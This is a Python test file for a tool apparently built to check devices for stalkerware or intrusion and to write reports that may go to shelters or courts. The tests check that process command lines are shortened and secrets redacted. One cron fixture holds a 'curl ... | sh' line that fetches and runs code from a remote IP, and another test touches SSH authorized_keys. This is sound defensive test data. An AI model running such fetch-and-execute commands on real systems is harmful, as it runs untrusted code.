"""A report may go to a shelter or a court: running programs' command lines are shortened and
secrets in any command replaced by default; advocate mode (--full-commands) keeps them."""

from __future__ import annotations

from safecheck.core.entries import Entry
from safecheck.core.i18n import Translator
from safecheck.report.findings import evidence_of, shortened, without_secrets


def process(command: str) -> Entry:
    return Entry(
        "common.processes",
        "process",
        "process",
        "node",
        command=command,
        program="/usr/bin/node",
        pid=4242,
    )


def test_a_running_programs_command_line_is_shortened_by_default() -> None:
    command = '/usr/bin/node /home/camille/app.js --env {"container":"3f2a","user":"camille"}'
    shown = evidence_of(process(command), None).command
    assert shown == "/usr/bin/node …(arguments not shown: 3)"
    assert evidence_of(process(command), None, full_commands=True).command == command
    assert shortened("/usr/sbin/sshd") == "/usr/sbin/sshd"


def test_secrets_are_replaced_in_commands() -> None:
    cases = {
        "curl -H 'Authorization: Bearer abcdef123456' https://x": "Bearer [secret]",
        "tool --password=hunter22 --user me": "--password=[secret]",
        "sync --token 0123456789abcdef0123456789abcdef": "--token [secret]",
        "mail camille.martin@example.org": "mail [e-mail]",
        "run AKIAIOSFODNN7EXAMPLEKEY1234567890abcdefghij": "run [secret]",
    }
    for command, expected in cases.items():
        assert expected in without_secrets(command), command
    ordinary = "/usr/lib/x86_64-linux-gnu/systemd/systemd-timesyncd --no-daemon"
    assert without_secrets(ordinary) == ordinary
    assert (
        without_secrets("ssh-keygen -A; cat authorized_keys")
        == "ssh-keygen -A; cat authorized_keys"
    )


def test_start_up_entries_keep_their_command_but_not_their_secrets() -> None:
    entry = Entry(
        "linux.cron",
        "cron-job",
        "/etc/cron.d/sync",
        "sync",
        command="curl -u camille:s3cretpass --token=abcd1234efgh https://203.0.113.5/x | sh",
        line=1,
    )
    shown = evidence_of(entry, None).command or ""
    assert shown.startswith("curl -u") and "| sh" in shown
    assert "abcd1234efgh" not in shown and "s3cretpass" not in shown
    assert (
        without_secrets("wget https://me:pw1234@example.org/f")
        == "wget https://[secret]@example.org/f"
    )


def test_what_is_hidden_is_said_in_the_reports_language() -> None:
    command = "/usr/bin/sync --token 0123456789abcdef0123456789abcdef mail camille@example.org"
    french = Translator("fr")
    assert shortened(command, french) == "/usr/bin/sync …(arguments non montrés : 4)"
    hidden = without_secrets(command, french)
    assert "[secret]" in hidden and "[e-mail]" in hidden and "camille@" not in hidden
